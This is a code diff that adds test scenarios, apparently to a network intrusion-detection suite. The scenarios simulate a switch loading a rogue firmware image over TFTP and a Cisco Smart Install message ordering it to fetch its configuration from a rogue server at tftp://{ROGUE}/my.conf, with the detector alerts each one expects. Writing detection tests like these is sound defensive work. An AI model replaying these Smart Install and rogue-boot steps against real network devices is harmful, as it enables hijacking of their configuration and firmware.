@@ -297,3 +297,35 @@ def bw30_too_far_apart(wire: Wire) -> None:
     snmp.Manager(wire, ATTACKER, DEVICE).set(*snmp.row(FOUNDRY_BOOT, 1, columns))
     wire.wait(25 * 3600)
     tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE)
+
+
+@scenario("BW30", "benign", site=HQ, with_site=Expect(rogue_image(DEVICE)))
+def bw30_image_and_polling(wire: Wire) -> None:
+    """One image from a rogue server, and then a management station asks what the device runs, and since when."""
+    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE)
+    manager = snmp.Manager(wire, "10.0.9.30", DEVICE, community="public")
+    text = "Cisco IOS Software, C2960 Software (C2960-LANBASEK9-M), Version 15.0(2)SE10, RELEASE SOFTWARE (fc3)"
+    for up in (864_000, 864_300):
+        wire.wait(300)
+        manager.get(
+            (snmp.SYS_UPTIME, snmp.ticks(up)),
+            (snmp.SYS_DESCR, text),
+            ("1.3.6.1.4.1.9.2.1.2.0", "reload"),
+            ("1.3.6.1.4.1.9.2.1.6.0", IPv4Address("0.0.0.0")),
+        )
+
+
+@scenario(
+    "BW30",
+    "malicious",
+    plain=Expect((Notice("Smart_Install_Command", DEVICE, ROGUE, "my.conf"),)),
+    site=HQ,
+    with_site=Expect((Notice("Smart_Install_Command", DEVICE, ROGUE, "my.conf"), Notice("Netboot_Hijack", DEVICE))),
+)
+def bw30_config_then_restart(wire: Wire) -> None:
+    """A switch is told by Smart Install to change its configuration, and restarts; the fetch was not seen."""
+    tcp = Tcp(wire, ROGUE, 50786, DEVICE, smi.PORT)
+    tcp.send(smi.config(f"tftp://{ROGUE}/my.conf"))
+    tcp.close()
+    wire.wait(60)
+    snmp.trap_v2(wire, DEVICE, "10.0.9.30", snmp.COLD_START)
